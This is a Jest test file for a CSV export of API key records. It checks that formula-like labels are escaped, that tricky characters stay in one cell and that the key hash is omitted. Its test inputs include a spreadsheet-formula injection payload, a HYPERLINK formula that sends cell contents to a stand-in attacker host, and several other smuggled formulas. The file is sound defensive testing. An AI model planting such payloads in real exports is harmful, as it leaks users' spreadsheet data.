import { expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { keysCsv } from '../../../console/page/keysCsv.ts';
import { at, makeKey, NOW_MS } from '../../support/keys.ts';
import { publicRecord } from '../../../keys/record.ts';

function toRows(...labels: readonly string[]): readonly Record<string, string>[] {
  const keys = labels.map((label) => publicRecord(makeKey({ label }).record));
  return parse(keysCsv(keys, NOW_MS), { columns: true });
}

test.each(['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '＝1', "'=1"])(
  'keysCsv escapes the formula in the label %p',
  (label) => {
    expect(toRows(label)).toMatchObject([{ label: `'${label}` }]);
  },
);

test('keysCsv escapes a formula after a semicolon', () => {
  expect(toRows('a;=1+1;b')).toMatchObject([{ label: "a;'=1+1;b" }]);
});

test.each(['a,b', 'a"b', 'a\nb', 'a\r\nb,"=1', '"', ',,,'])('keysCsv keeps the label %p in one cell', (label) => {
  expect(toRows(label, 'next')).toMatchObject([
    { label, state: 'active' },
    { label: 'next', state: 'active' },
  ]);
});

test('keysCsv writes every field except the hash', () => {
  const { record } = makeKey({ scopes: ['a', 'b'], metadata: { seats: 3, '=x': '"' }, owner: '=1', expiresAt: at(1) });
  const csv = keysCsv([publicRecord(record)], NOW_MS);
  expect(csv).not.toContain(record.keyHash);
  expect(parse(csv, { columns: true })).toMatchObject([
    { scopes: 'a b', metadata: '{"seats":3,"=x":"\\""}', owner: "'=1", expiresAt: at(1), lastUsedAt: '' },
  ]);
});
